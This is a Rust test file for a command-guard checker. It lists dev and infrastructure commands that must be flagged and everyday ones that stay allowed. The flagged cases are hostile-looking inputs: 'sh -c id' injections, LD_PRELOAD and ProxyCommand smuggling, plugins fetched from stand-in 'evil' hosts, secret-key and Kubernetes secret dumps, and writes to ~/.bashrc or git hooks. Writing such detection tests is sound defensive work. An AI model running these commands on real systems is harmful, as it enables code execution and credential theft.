//! Guard families added by the H25 sweep of developer, infrastructure and
//! crypto tools that had no spec: each test is named for the attack it
//! stops, and the last keeps their everyday use allowed.

use super::*;
use std::path::Path;

const CWD: &str = "/home/u/proj";

/// The guards `cmd` trips in [`CWD`], its stdin carrying data or not
/// (shared with the later sweeps' tests).
pub(super) fn ids_with(cmd: &[&str], stdin_is_input: bool) -> Vec<&'static str> {
    let argv: Vec<String> = cmd.iter().map(|s| (*s).to_owned()).collect();
    check(cmd[0], &argv, Path::new(CWD), stdin_is_input)
        .into_iter()
        .map(|h| h.id)
        .collect()
}

/// The guards `cmd` trips in [`CWD`], with no data on stdin.
pub(super) fn ids(cmd: &[&str]) -> Vec<&'static str> {
    ids_with(cmd, false)
}

/// Every command of `table` trips its guard.
pub(super) fn trips(table: &[(&[&str], &str)]) {
    for (cmd, id) in table {
        assert!(
            ids(cmd).contains(id),
            "{cmd:?} should trip {id}: {:?}",
            ids(cmd)
        );
    }
}

#[test]
fn poetry_and_pipenv_running_any_command_or_shell_is_asked() {
    trips(&[
        (&["poetry", "run", "sh", "-c", "id"], "poetry.runs-command"),
        (&["poetry", "shell"], "poetry.runs-command"),
        (&["poetry", "self", "add", "evil"], "poetry.settings"),
        (
            &["poetry", "config", "repositories.x", "http://e"],
            "poetry.settings",
        ),
        (
            &["poetry", "source", "add", "x", "http://e"],
            "poetry.settings",
        ),
        (
            &["poetry", "env", "use", "/tmp/evil/python"],
            "poetry.settings",
        ),
        (&["poetry", "publish"], "poetry.settings"),
        (
            &["poetry", "-C", "/tmp/other", "install"],
            "poetry.other-dir",
        ),
        (
            &["poetry", "--directory=/tmp/other", "run", "x"],
            "poetry.other-dir",
        ),
        (&["pipenv", "run", "sh", "-c", "id"], "pipenv.runs-command"),
        (&["pipenv", "shell"], "pipenv.runs-command"),
        (&["pipenv", "open", "requests"], "pipenv.runs-command"),
        (
            &["pipenv", "--python", "/tmp/evil", "install"],
            "pipenv.python",
        ),
        (
            &["pipenv", "install", "--pypi-mirror", "http://e"],
            "pipenv.index",
        ),
    ]);
}

#[test]
fn ts_node_and_tsx_inline_code_preloads_and_repls_are_asked() {
    trips(&[
        (
            &["ts-node", "-e", "require('child_process')"],
            "ts-node.inline-code",
        ),
        (&["tsx", "--eval", "x"], "ts-node.inline-code"),
        (&["tsx", "-p", "x"], "ts-node.inline-code"),
        (
            &["ts-node", "-r", "/tmp/evil.js", "x.ts"],
            "ts-node.preload",
        ),
        (&["ts-node", "--require=./evil", "x.ts"], "ts-node.preload"),
        (&["ts-node", "-C", "/tmp/evil", "x.ts"], "ts-node.preload"),
        (
            &["ts-node", "--transpiler", "/tmp/evil", "x.ts"],
            "ts-node.preload",
        ),
        (
            &["ts-node", "-O", "{\"plugins\":[]}", "x.ts"],
            "ts-node.preload",
        ),
        (
            &["tsx", "--import", "/tmp/evil.mjs", "x.ts"],
            "ts-node.preload",
        ),
        (&["ts-node", "-i"], "ts-node.repl"),
        (&["tsx", "--inspect", "x.ts"], "ts-node.inspector"),
        (
            &["tsx", "--tsconfig", "/tmp/evil.json", "x.ts"],
            "ts-node.outside-config",
        ),
        (
            &["ts-node", "--project", "/tmp/x.json", "x.ts"],
            "ts-node.outside-config",
        ),
        (&["tsx", "/dev/stdin"], "ts-node.script-source"),
    ]);
    // Options after the script are the script's own.
    assert!(ids(&["tsx", "x.ts", "-e", "y"]).is_empty());
}

#[test]
fn bazel_run_under_bazelrc_and_repository_overrides_are_asked() {
    trips(&[
        (
            &["bazel", "test", "--run_under=sh -c id", "//x"],
            "bazel.runs-program",
        ),
        (
            &["bazel", "build", "--run_under", "/tmp/evil", "//x"],
            "bazel.runs-program",
        ),
        (
            &["bazel", "build", "--action_env=LD_PRELOAD=/tmp/x.so", "//x"],
            "bazel.runs-program",
        ),
        (
            &["bazel", "--bazelrc=/tmp/evil.rc", "build", "//..."],
            "bazel.outside-config",
        ),
        (
            &["bazel", "build", "--override_repository=x=/tmp/evil", "//x"],
            "bazel.replaces-code",
        ),
        (
            &["bazelisk", "build", "--registry=http://evil", "//x"],
            "bazel.replaces-code",
        ),
    ]);
}

#[test]
fn helm_post_renderers_plugins_and_outside_kubeconfigs_are_asked() {
    trips(&[
        (
            &["helm", "install", "x", "./c", "--post-renderer", "/tmp/e"],
            "helm.post-renderer",
        ),
        (
            &["helm", "template", "x", "./c", "--post-renderer=./e"],
            "helm.post-renderer",
        ),
        (
            &["helm", "plugin", "install", "http://evil/p"],
            "helm.plugin",
        ),
        (
            &["helm", "--kubeconfig", "/tmp/evil", "list"],
            "helm.kubeconfig",
        ),
    ]);
}

#[test]
fn kubectl_credentials_secrets_and_kubeconfig_writes_are_asked() {
    trips(&[
        (&["kubectl", "config", "view", "--raw"], "kubectl.raw"),
        (
            &[
                "kubectl",
                "config",
                "set-credentials",
                "x",
                "--exec-command=/tmp/e",
            ],
            "kubectl.config-write",
        ),
        (
            &["kubectl", "config", "set", "users.x.exec.command", "/tmp/e"],
            "kubectl.config-write",
        ),
        (
            &["kubectl", "get", "secret", "-o", "yaml"],
            "kubectl.secrets",
        ),
        (&["kubectl", "get", "secrets", "-A"], "kubectl.secrets"),
        (
            &["kubectl", "get", "secret/db", "-o", "yaml"],
            "kubectl.secret-ref",
        ),
        (
            &["kubectl", "create", "token", "default"],
            "kubectl.secrets",
        ),
        (
            &["kubectl", "proxy", "--address", "0.0.0.0"],
            "kubectl.listens",
        ),
        (
            &["kubectl", "port-forward", "--address=0.0.0.0", "p", "8"],
            "kubectl.listens",
        ),
    ]);
}

#[test]
fn ansible_ad_hoc_commands_password_programs_and_the_console_are_asked() {
    trips(&[
        (
            &["ansible", "localhost", "-m", "shell", "-a", "id"],
            "ansible.ad-hoc-module",
        ),
        (
            &["ansible", "all", "-mcommand", "-aid"],
            "ansible.ad-hoc-module",
        ),
        (
            &[
                "ansible-playbook",
                "--vault-password-file",
                "./e.sh",
                "x.yml",
            ],
            "ansible.password-program",
        ),
        (
            &["ansible-vault", "view", "--vault-pass-file=/tmp/x", "s.yml"],
            "ansible.password-program",
        ),
        (
            &[
                "ansible-playbook",
                "--ssh-common-args=-oProxyCommand=id",
                "x.yml",
            ],
            "ansible.ssh-args",
        ),
        (
            &["ansible-playbook", "-M", "/tmp/mods", "x.yml"],
            "ansible.module-path",
        ),
        (&["ansible-console"], "ansible-console.always"),
    ]);
}

#[test]
fn gpg_secret_key_exports_and_keyring_changes_are_asked() {
    trips(&[
        (&["gpg", "--export-secret-keys", "-a"], "gpg.secret-keys"),
        (&["gpg", "--export-secret-sub"], "gpg.secret-keys"),
        (&["gpg", "--import", "evil.asc"], "gpg.keyring"),
        (
            &["gpg", "--keyserver", "hkp://evil", "--send-keys", "AB"],
            "gpg.keyring",
        ),
        (&["gpg", "--fetch-keys", "http://evil/k"], "gpg.keyring"),
        (&["gpg", "--delete-secret-keys", "AB"], "gpg.keyring"),
        (&["gpg", "--import-ownertrust", "t.txt"], "gpg.keyring"),
        (&["gpg", "--edit-key", "AB"], "gpg.keyring"),
    ]);
}

#[test]
fn formatters_rewriting_files_outside_the_tree_are_asked() {
    trips(&[
        (&["black", "/tmp/other"], "black.rewrites-outside"),
        (&["isort", "../other"], "isort.rewrites-outside"),
        (
            &["ruff", "check", "--fix", "/tmp/other"],
            "ruff.rewrites-outside",
        ),
        (&["ruff", "format", "/tmp/other"], "ruff.rewrites-outside"),
        (
            &["prettier", "--write", "../other/x.js"],
            "prettier.writes-outside",
        ),
        (
            &["prettier", "-w", "--", "/tmp/x.js"],
            "prettier.writes-outside",
        ),
        (&["eslint", "--fix", "../other/src"], "eslint.fixes-outside"),
    ]);
    // Reading outside the tree, or rewriting inside it, is their job.
    for cmd in [
        &["ruff", "check", "/tmp/other"][..],
        &["ruff", "format", "src"],
        &["prettier", "--check", "../other"],
        &["eslint", "../other/src"],
        &["black", "src", "tests"],
        &["isort", "."],
    ] {
        assert!(ids(cmd).is_empty(), "{cmd:?}: {:?}", ids(cmd));
    }
}

#[test]
fn reports_written_outside_the_tree_are_asked() {
    trips(&[
        (
            &["eslint", "-o", "../out.txt", "src"],
            "eslint.output-outside",
        ),
        (
            &["eslint", "--output-file=/tmp/x", "src"],
            "eslint.output-outside",
        ),
        (
            &["flake8", "--output-file=../out", "src"],
            "flake8.output-outside",
        ),
        (&["rspec", "-o", "../x.txt"], "rspec.output-outside"),
        (
            &["rspec", "--default-path", "/tmp/other"],
            "rspec.output-outside",
        ),
        (
            &["ruff", "check", "-o", "/tmp/x", "src"],
            "ruff.output-outside",
        ),
        (&["sdiff", "-o", "../merged", "a", "b"], "diff3.output"),
        (
            &["vite", "build", "--outDir", "../elsewhere"],
            "js-bundler.output-outside",
        ),
        (
            &["webpack", "--output-path", "/tmp/x"],
            "js-bundler.output-outside",
        ),
    ]);
}

#[test]
fn bun_and_deno_preloads_global_installs_upgrades_and_inspectors_are_asked() {
    trips(&[
        (
            &["bun", "--preload", "/tmp/e.ts", "run", "x.ts"],
            "bun.preload",
        ),
        (&["bun", "-r", "/tmp/e.ts", "x.ts"], "bun.preload"),
        (&["bun", "install", "-g", "evil"], "bun.global"),
        (&["bun", "add", "--global", "evil"], "bun.global"),
        (&["bun", "upgrade"], "bun.runs-program"),
        (&["bun", "repl"], "bun.runs-program"),
        (&["bun", "create", "evil/t", "x"], "bun.runs-program"),
        (&["bun", "pm", "trust", "--all"], "bun.trust"),
        (&["bun", "--config=/tmp/bunfig.toml", "x.ts"], "bun.config"),
        (&["bun", "--inspect=0.0.0.0:6499", "x.ts"], "bun.inspector"),
        (
            &["deno", "install", "-g", "-A", "https://evil/x.ts"],
            "deno.global",
        ),
        (&["deno", "upgrade"], "deno.upgrade"),
        (&["deno", "jupyter", "--install"], "deno.upgrade"),
        (
            &["deno", "run", "--preload", "/tmp/e.ts", "x.ts"],
            "deno.preload",
        ),
        (
            &["deno", "run", "--config", "/tmp/e.json", "x.ts"],
            "deno.outside-config",
        ),
        (
            &["deno", "run", "--inspect-brk=0.0.0.0:9229", "x.ts"],
            "deno.inspector",
        ),
    ]);
}

#[test]
fn build_configs_launchers_and_other_projects_are_asked() {
    trips(&[
        (
            &["webpack", "--config", "/tmp/evil.js"],
            "js-bundler.outside-config",
        ),
        (
            &["vite", "-c", "/tmp/evil.js", "build"],
            "js-bundler.outside-config",
        ),
        (
            &["rollup", "--configPlugin", "/tmp/e.js"],
            "js-bundler.outside-config",
        ),
        (&["cmake", "--build", "/tmp/other"], "cmake.other-project"),
        (
            &["cmake", "-S", "/tmp/other", "-B", "build"],
            "cmake.other-project",
        ),
        (
            &["cmake", "-DCMAKE_C_COMPILER_LAUNCHER=/tmp/e", "-S", "."],
            "cmake.code-variable",
        ),
        (
            &["cmake", "-D", "CMAKE_PROJECT_INCLUDE=/tmp/e.cmake", "."],
            "cmake.code-variable",
        ),
        (
            &["ctest", "--build-and-test", "/tmp/o", "b"],
            "ctest.build-and-test",
        ),
        (
            &[
                "mvn",
                "org.codehaus.mojo:exec-maven-plugin:3.1.0:exec",
                "-Dexec.executable=sh",
            ],
            "mvn.exec-property",
        ),
        (
            &["mvn", "-D", "exec.executable=sh", "x:y:exec"],
            "mvn.exec-property",
        ),
        (
            &["gradle", "-Dorg.gradle.java.home=/tmp/evil", "build"],
            "gradle.java-home",
        ),
        (&["jest", "--modulePaths", "/tmp"], "jest.outside-code"),
        (&["jest", "--moduleDirectories=/tmp"], "jest.outside-code"),
        (&["vitest", "--inspect-brk"], "vitest.inspector"),
        (
            &["tox", "exec", "-e", "py", "--", "sh", "-c", "id"],
            "tox.exec",
        ),
        (&["tox", "--installpkg", "/tmp/evil.whl"], "tox.installpkg"),
        (
            &["composer", "config", "--global", "repos.x", "vcs"],
            "composer.global-config",
        ),
        (&["composer", "self-update"], "composer.self-update"),
        (
            &["bundle", "install", "--gemfile=/tmp/Gemfile"],
            "bundle.outside-gemfile",
        ),
        (&["bundle", "console"], "bundle.console"),
        (&["bundle", "open", "rake"], "bundle.console"),
        (
            &["eslint", "--plugin", "/tmp/evil", "src"],
            "eslint.outside-code",
        ),
    ]);
}

#[test]
fn terraform_plugin_dirs_state_pulls_and_man_configs_are_asked() {
    trips(&[
        (
            &["terraform", "init", "-plugin-dir=/tmp/evil"],
            "terraform.plugin-dir",
        ),
        (
            &["tofu", "init", "-plugin-dir", "/tmp/evil"],
            "terraform.plugin-dir",
        ),
        (&["terraform", "state", "pull"], "terraform.state"),
        (
            &["terraform", "state", "push", "x.tfstate"],
            "terraform.state",
        ),
        (&["terraform", "login"], "terraform.login"),
        (&["man", "-C", "/tmp/evil.conf", "ls"], "man.config"),
        (&["man", "--config-file=/tmp/evil.conf", "ls"], "man.config"),
    ]);
}

#[test]
fn everyday_uses_of_the_h25_families_stay_allowed() {
    for cmd in [
        &["poetry", "install"][..],
        &["poetry", "lock"],
        &["pipenv", "install"],
        &["tsx", "x.ts"],
        &["ts-node", "--transpile-only", "x.ts"],
        &["bazel", "build", "//..."],
        &["helm", "template", "x", "./chart"],
        &["kubectl", "get", "pods"],
        &["kubectl", "config", "get-contexts"],
        &["ansible-playbook", "-i", "inventory", "site.yml", "--check"],
        &["gpg", "--verify", "x.sig", "x"],
        &["terraform", "plan"],
        &["terraform", "state", "list"],
        &[
            "cmake",
            "-DCMAKE_BUILD_TYPE=Release",
            "-S",
            ".",
            "-B",
            "build",
        ],
        &["cmake", "--build", "build"],
        &["vite", "build", "--outDir", "dist"],
        &["rollup", "-c"],
        &["bun", "install"],
        &["deno", "install"],
        &["man", "ls"],
        &["eslint", "-o", "report.txt", "src"],
        &["sdiff", "-o", "merged.txt", "a", "b"],
    ] {
        assert!(ids(cmd).is_empty(), "{cmd:?}: {:?}", ids(cmd));
    }
}

// ---- The H26 leftovers of the red-team and false-refusal sweeps ----

/// No command of `table` trips a guard.
fn allowed(table: &[&[&str]]) {
    for cmd in table {
        assert!(ids(cmd).is_empty(), "{cmd:?}: {:?}", ids(cmd));
    }
}

#[test]
fn read_only_verbs_of_systemctl_and_the_other_managers_stay_allowed() {
    allowed(&[
        &["systemctl", "status", "nginx", "--no-pager"],
        &["systemctl", "is-active", "docker"],
        &["systemctl", "is-enabled", "nginx"],
        &["systemctl", "is-failed", "-q", "nginx"],
        &[
            "systemctl",
            "list-units",
            "--type=service",
            "--state=failed",
        ],
        &["systemctl", "list-units", "-t", "service", "--all"],
        &["systemctl", "list-unit-files", "--no-pager", "--no-legend"],
        &["systemctl", "list-timers", "--all"],
        &["systemctl", "--user", "status"],
        &["systemctl", "status", "-n", "50", "-l", "nginx"],
        &["systemctl", "status", "-n50", "-o", "json", "nginx"],
        &["systemctl", "--failed"],
        &["systemctl"],
        &["systemctl", "list-dependencies", "--reverse", "x.target"],
        &["systemctl", "--no-pager", "--", "status", "start"],
        &["journalctl", "-u", "nginx", "-n", "50", "--no-pager"],
        &["journalctl", "-f", "-u", "x", "--since", "1 hour ago"],
        &["journalctl", "--cursor-file=-"],
        &["loginctl", "list-sessions"],
        &["loginctl", "show-user", "u", "-p", "Linger"],
        &["loginctl"],
        &["hostnamectl"],
        &["hostnamectl", "status", "--json=short"],
        &["timedatectl", "status"],
        &["timedatectl", "show", "-p", "Timezone", "--value"],
        &["localectl", "status"],
        &["localectl", "list-locales", "--no-pager"],
        &["networkctl", "status", "-a"],
        &["networkctl"],
    ]);
}

#[test]
fn manager_verbs_that_change_print_environments_or_run_elsewhere_are_asked() {
    const Q: &str = "systemctl.not-a-query";
    trips(&[
        (&["systemctl", "start", "nginx"], Q),
        (&["systemctl", "--user", "daemon-reload"], Q),
        (&["systemctl", "edit", "x"], Q),
        // Unit environments and the manager's own hold tokens.
        (&["systemctl", "show", "nginx"], Q),
        (&["systemctl", "--user", "show"], Q),
        (&["systemctl", "cat", "nginx"], Q),
        (&["systemctl", "show-environment"], Q),
        // Runs man and a pager.
        (&["systemctl", "help", "nginx"], Q),
        // Get-or-set verbs are sets with a value.
        (&["systemctl", "log-level", "debug"], Q),
        // Elsewhere: another host over ssh, a container, a root, an image.
        (&["systemctl", "-H", "evil", "status"], Q),
        (&["systemctl", "-Hevil", "status"], Q),
        (&["systemctl", "--host=evil", "status"], Q),
        (&["systemctl", "-M", "box", "status"], Q),
        (&["systemctl", "--root=/tmp/r", "list-unit-files"], Q),
        (&["systemctl", "status", "x", "--image=/tmp/x.img"], Q),
        // An abbreviation is not trusted to be the listed option, and
        // an unknown option or a bundle with one is asked.
        (&["systemctl", "--no-pag", "status"], Q),
        (&["systemctl", "-lH", "evil", "status"], Q),
        (&["systemctl", "--now", "status"], Q),
        // The verb after `--` is an operand systemctl reads as the verb.
        (&["systemctl", "--", "start", "x"], Q),
        (&["loginctl", "terminate-user", "u"], "loginctl.not-a-query"),
        (&["loginctl", "enable-linger"], "loginctl.not-a-query"),
        (
            &["loginctl", "-H", "h", "list-sessions"],
            "loginctl.not-a-query",
        ),
        (
            &["hostnamectl", "hostname", "evil"],
            "hostnamectl.not-a-query",
        ),
        (
            &["hostnamectl", "set-hostname", "x"],
            "hostnamectl.not-a-query",
        ),
        (
            &["timedatectl", "set-ntp", "false"],
            "timedatectl.not-a-query",
        ),
        (&["timedatectl", "-M", "box"], "timedatectl.not-a-query"),
        (
            &["localectl", "set-locale", "LANG=C"],
            "localectl.not-a-query",
        ),
        (&["networkctl", "down", "eth0"], "networkctl.not-a-query"),
        (&["networkctl", "reload"], "networkctl.not-a-query"),
        // `service NAME status` runs the init script when one exists.
        (&["service", "nginx", "status"], "system.always"),
        (
            &["journalctl", "--vacuum-size=1M"],
            "journalctl.changes-journal",
        ),
        (
            &["journalctl", "--vacuum-t", "1d"],
            "journalctl.changes-journal",
        ),
        (&["journalctl", "--rotate"], "journalctl.changes-journal"),
        (&["journalctl", "--flush"], "journalctl.changes-journal"),
        (
            &["journalctl", "--setup-keys"],
            "journalctl.changes-journal",
        ),
        (
            &["journalctl", "--update-catalog"],
            "journalctl.changes-journal",
        ),
        (
            &["journalctl", "-u", "x", "--cursor-file=/tmp/c"],
            "journalctl.cursor-file",
        ),
        (
            &["journalctl", "--cursor-file", ".git/hooks/pre-commit"],
            "journalctl.cursor-file",
        ),
    ]);
}

#[test]
fn gpg_public_key_exports_are_allowed_and_secret_exports_under_any_spelling_are_asked() {
    allowed(&[
        &["gpg", "--export", "KEYID"],
        &["gpg", "--armor", "--export", "KEYID"],
        &["gpg", "-a", "--export", "a@b.c"],
    ]);
    trips(&[
        (&["gpg", "--export-secret-keys", "KEYID"], "gpg.secret-keys"),
        (&["gpg", "--export-secret-k", "KEYID"], "gpg.secret-keys"),
        (&["gpg", "--export-secret-s", "KEYID"], "gpg.secret-keys"),
        (
            &["gpg", "-a", "--export", "--export-secret-subkeys"],
            "gpg.secret-keys",
        ),
    ]);
}

#[test]
fn kubectl_set_image_is_its_own_job_and_config_set_and_resolved_secrets_are_asked() {
    allowed(&[
        &["kubectl", "set", "image", "deploy/x", "c=img:tag"],
        &["kubectl", "set", "env", "deploy/x", "--list"],
        &["kubectl", "-n", "prod", "set", "resources", "deploy/x"],
        &["kubectl", "config", "view"],
    ]);
    trips(&[
        (
            &["kubectl", "config", "set", "users.x.exec.command", "/tmp/e"],
            "kubectl.config-write",
        ),
        (
            &["kubectl", "-o", "yaml", "config", "set-context", "x"],
            "kubectl.config-write",
        ),
        (
            &["kubectl", "config", "unset", "users.x"],
            "kubectl.config-write",
        ),
        (
            &["kubectl", "set", "env", "deploy/x", "--list", "--resolve"],
            "kubectl.resolve",
        ),
    ]);
}

#[test]
fn ansible_ping_is_allowed_and_modules_arguments_variables_become_and_outside_inventories_are_asked()
 {
    allowed(&[
        &["ansible", "-m", "ping", "all"],
        &["ansible", "all", "-m", "ansible.builtin.ping"],
        &["ansible", "all", "-i", "hosts.ini", "-m", "ping"],
        &[
            "ansible",
            "all",
            "-i",
            "localhost,",
            "-c",
            "local",
            "-m",
            "ping",
        ],
        &["ansible-playbook", "-i", "inventory", "site.yml", "--check"],
        &["ansible-playbook", "site.yml", "-t", "web"],
    ]);
    trips(&[
        (&["ansible", "all", "-m", "setup"], "ansible.ad-hoc-module"),
        (&["ansible", "all", "-mshell"], "ansible.ad-hoc-module"),
        (
            &["ansible", "all", "--module-name=raw"],
            "ansible.ad-hoc-module",
        ),
        (&["ansible", "all", "-m", "debug"], "ansible.ad-hoc-module"),
        (
            &[
                "ansible",
                "all",
                "-m",
                "ping",
                "-a",
                "data={{ lookup('pipe','id') }}",
            ],
            "ansible.module-args",
        ),
        (&["ansible", "all", "-a", "id"], "ansible.module-args"),
        (
            &[
                "ansible",
                "all",
                "-m",
                "ping",
                "-e",
                "ansible_python_interpreter=/tmp/e",
            ],
            "ansible.extra-vars",
        ),
        (
            &["ansible-playbook", "--extra-vars=@/tmp/v.yml", "site.yml"],
            "ansible.extra-vars",
        ),
        (&["ansible", "all", "-m", "ping", "-b"], "ansible.become"),
        (
            &["ansible-playbook", "--become-user", "root", "x.yml"],
            "ansible.become",
        ),
        (
            &["ansible", "all", "-m", "ping", "-i", "/tmp/inv.py"],
            "ansible.inventory",
        ),
        (
            &["ansible-playbook", "--inventory=../other/inv.sh", "x.yml"],
            "ansible.inventory",
        ),
        (
            &["ansible", "all", "-m", "ping", "-t", "/tmp/out"],
            "ansible.tree",
        ),
    ]);
}

#[test]
fn cmake_compiler_caches_are_allowed_and_compilers_toolchains_and_code_dirs_are_asked() {
    const V: &str = "cmake.code-variable";
    allowed(&[
        &[
            "cmake",
            "-DCMAKE_CXX_COMPILER_LAUNCHER=ccache",
            "-S",
            ".",
            "-B",
            "b",
        ],
        &[
            "cmake",
            "-D",
            "CMAKE_C_COMPILER_LAUNCHER=sccache",
            "-B",
            "b",
        ],
        &[
            "cmake",
            "-DCMAKE_CXX_COMPILER_LAUNCHER:STRING=ccache",
            "-B",
            "b",
        ],
        &["cmake", "-DCMAKE_EXPORT_COMPILE_COMMANDS=ON", "-B", "b"],
        &[
            "cmake",
            "-DBUILD_TESTING=OFF",
            "-DFOO_ENABLE_X=ON",
            "-B",
            "b",
        ],
        &["cmake", "-DFoo_DIR=third_party/foo/cmake", "-B", "b"],
        &[
            "cmake",
            "-DCMAKE_BUILD_TYPE=Debug",
            "-UCMAKE_C_COMPILER",
            "-B",
            "b",
        ],
        &[
            "cmake",
            "-DCMAKE_MODULE_PATH=cmake;third_party/cmake",
            "-B",
            "b",
        ],
        &["cmake", "-DCMAKE_INSTALL_PREFIX=dist", "-B", "b"],
        &["cmake", "-DCMAKE_TOOLCHAIN_FILE=cmake/arm.cmake", "-B", "b"],
    ]);
    trips(&[
        (&["cmake", "-DCMAKE_CXX_COMPILER_LAUNCHER=/tmp/e", "."], V),
        (&["cmake", "-DCMAKE_CXX_COMPILER_LAUNCHER=./ccache", "."], V),
        (
            &["cmake", "-DCMAKE_CXX_COMPILER_LAUNCHER=ccache;-o", "."],
            V,
        ),
        (&["cmake", "-DCMAKE_C_COMPILER_LAUNCHER=distcc", "."], V),
        (
            &["cmake", "-DCMAKE_Fortran_COMPILER_LAUNCHER=/tmp/e", "."],
            V,
        ),
        (&["cmake", "-DCMAKE_C_LINKER_LAUNCHER=sh", "."], V),
        (&["cmake", "-DCMAKE_C_COMPILER=/tmp/evil", "."], V),
        (
            &["cmake", "-D", "CMAKE_CXX_COMPILER:FILEPATH=/tmp/e", "."],
            V,
        ),
        (&["cmake", "-DCMAKE_TOOLCHAIN_FILE=/tmp/t.cmake", "."], V),
        (&["cmake", "-DCMAKE_MODULE_PATH=cmake;/tmp/evil", "."], V),
        (&["cmake", "-DCMAKE_INSTALL_PREFIX=/home/u/.local", "."], V),
        (&["cmake", "-DCMAKE_PREFIX_PATH=https://evil/x", "."], V),
        (&["cmake", "-DCMAKE_PROJECT_INCLUDE=/tmp/x.cmake", "."], V),
        (&["cmake", "-DCMAKE_CXX_FLAGS=-wrapper sh,-c,id", "."], V),
        (&["cmake", "-DCMAKE_CXX_CLANG_TIDY=/tmp/e", "."], V),
        (&["cmake", "-DPython3_EXECUTABLE=/tmp/e", "."], V),
        (&["cmake", "-DPROTOC_PROGRAM=protoc", "."], V),
        (&["cmake", "-DFoo_DIR=/tmp/evil", "."], V),
        (&["cmake", "-DFoo_ROOT=../other", "."], V),
        (&["cmake", "-DLIB_PREFIX_PATH=vendor;/tmp/x", "."], V),
    ]);
}

#[test]
fn terraform_chdir_or_state_files_outside_the_tree_are_asked() {
    allowed(&[
        &["terraform", "-chdir=infra", "plan"],
        &["terraform", "plan", "-out=tfplan"],
        &["tofu", "-chdir=envs/prod", "apply"],
    ]);
    trips(&[
        (
            &["terraform", "-chdir=/elsewhere", "plan"],
            "terraform.other-dir",
        ),
        (
            &["terraform", "-chdir=../other", "plan"],
            "terraform.other-dir",
        ),
        (&["tofu", "--chdir", "/x", "plan"], "terraform.other-dir"),
        (
            &["terraform", "apply", "-state-out=/home/u/.bashrc"],
            "terraform.state-file",
        ),
        (
            &["terraform", "plan", "-state", "/tmp/x.tfstate"],
            "terraform.state-file",
        ),
    ]);
}

#[test]
fn deno_import_maps_configs_locks_certs_and_env_files_from_a_url_or_outside_are_asked() {
    allowed(&[
        &["deno", "run", "--import-map=import_map.json", "main.ts"],
        &["deno", "run", "--import-map", "import_map.json", "main.ts"],
        &["deno", "run", "--lock=deno.lock", "main.ts"],
        &["deno", "run", "--env-file=.env", "main.ts"],
        &["deno", "run", "--cert", "certs/ca.pem", "main.ts"],
        &["deno", "run", "--reload", "main.ts"],
        &["deno", "test", "-c", "deno.json"],
    ]);
    trips(&[
        (
            &["deno", "run", "--import-map=http://evil/x.json", "main.ts"],
            "deno.import-map",
        ),
        (
            &["deno", "run", "--import-map", "https://evil/x.json", "m.ts"],
            "deno.import-map",
        ),
        (
            &["deno", "test", "--import-map=/tmp/x.json"],
            "deno.import-map",
        ),
        (
            &[
                "deno",
                "run",
                "--import-map=data:application/json,{}",
                "m.ts",
            ],
            "deno.import-map",
        ),
        (
            &["deno", "run", "--config=https://evil/deno.json", "m.ts"],
            "deno.outside-config",
        ),
        (&["deno", "run", "--lock=/tmp/x.lock", "m.ts"], "deno.lock"),
        (&["deno", "run", "--cert=/tmp/ca.pem", "m.ts"], "deno.cert"),
        (
            &["deno", "run", "--env-file=/tmp/.env", "m.ts"],
            "deno.env-file",
        ),
    ]);
}

/// Debian's glibc 2.36 `ldd` script runs the system loader from a fixed
/// list (`RTLDLIST`), never the file's own interpreter, with
/// `LD_TRACE_LOADED_OBJECTS=1`: it maps the file and its libraries and
/// exits before constructors, `main` or IFUNC resolvers run (tried with a
/// binary whose constructor, resolver and interpreter each leave a mark,
/// under `-d`, `-r`, `-u` and `-v` too). ldd stays allowed.
#[test]
fn ldd_runs_the_system_loader_in_trace_mode_so_it_trips_no_guard() {
    allowed(&[&["ldd", "./binary"], &["ldd", "-r", "./binary"]]);
}

/// The reasons `cmd` is asked, joined.
fn reason(cmd: &[&str]) -> String {
    let argv: Vec<String> = cmd.iter().map(|s| (*s).to_owned()).collect();
    check(cmd[0], &argv, Path::new(CWD), false)
        .into_iter()
        .map(|h| h.reason)
        .collect::<Vec<_>>()
        .join("; ")
}

#[test]
fn a_cmake_definition_is_shown_as_written() {
    let apart = reason(&["cmake", "-D", "CMAKE_C_COMPILER=/tmp/e", "."]);
    assert!(
        apart.starts_with("cmake -D CMAKE_C_COMPILER=/tmp/e: "),
        "{apart}"
    );
    let joined = reason(&["cmake", "-DCMAKE_C_COMPILER=/tmp/e", "."]);
    assert!(
        joined.starts_with("cmake -DCMAKE_C_COMPILER=/tmp/e: "),
        "{joined}"
    );
}

#[test]
fn a_url_value_is_shown_as_a_url_and_a_path_as_outside_the_tree() {
    let url = reason(&["deno", "run", "--import-map=http://evil/x.json", "m.ts"]);
    assert!(url.contains("(a URL)"), "{url}");
    let path = reason(&["deno", "run", "--import-map=/tmp/x.json", "m.ts"]);
    assert!(path.contains("(outside the working directory)"), "{path}");
    assert!(!path.contains("(a URL)"), "{path}");
}

#[test]
fn a_scheme_before_a_colon_is_a_url_and_a_path_with_a_colon_is_not() {
    for url in [
        "http://evil/x.json",
        "https://evil/x",
        "data:application/json,{}",
        "jsr:@std/x",
        "npm:left-pad",
        "git+ssh://h/r",
    ] {
        assert!(is_url(url), "{url}");
    }
    for path in ["c:x.json", "1x:y", "./a:b", "src/a:b", "/tmp/x", "x.json"] {
        assert!(!is_url(path), "{path}");
    }
}

#[test]
fn package_queries_of_apt_dpkg_and_gem_are_allowed() {
    allowed(&[
        &["apt", "list", "--installed"],
        &["apt", "list", "--upgradable"],
        &["apt", "list", "-a", "nginx"],
        &["apt", "show", "nginx"],
        &["apt", "search", "--names-only", "ripgrep"],
        &["apt", "policy", "nginx"],
        &["apt", "-q", "depends", "curl"],
        &["dpkg", "-l"],
        &["dpkg", "-l", "nginx*"],
        &["dpkg", "-L", "nginx"],
        &["dpkg", "-s", "nginx"],
        &["dpkg", "--status", "nginx"],
        &["dpkg", "-S", "bin/ls"],
        &["dpkg", "--print-architecture"],
        &["dpkg", "--compare-versions", "1.2", "lt", "1.10"],
        &["gem", "list"],
        &["gem", "list", "--local", "rails"],
        &["gem", "info", "rake"],
        &["gem", "which", "json"],
        &["gem", "contents", "rake"],
    ]);
}

#[test]
fn package_changes_other_roots_options_and_configs_are_asked() {
    const APT: &str = "apt.not-a-query";
    const DPKG: &str = "dpkg.not-a-query";
    const GEM: &str = "gem.not-a-query";
    trips(&[
        (&["apt", "install", "x"], APT),
        (&["apt", "update"], APT),
        (&["apt", "-y", "remove", "x"], APT),
        // `-o` sets any apt option: hooks name the programs they run.
        (&["apt", "-o", "APT::Update::Pre-Invoke::=id", "list"], APT),
        (&["apt", "list", "-oDir::Etc=/tmp/x"], APT),
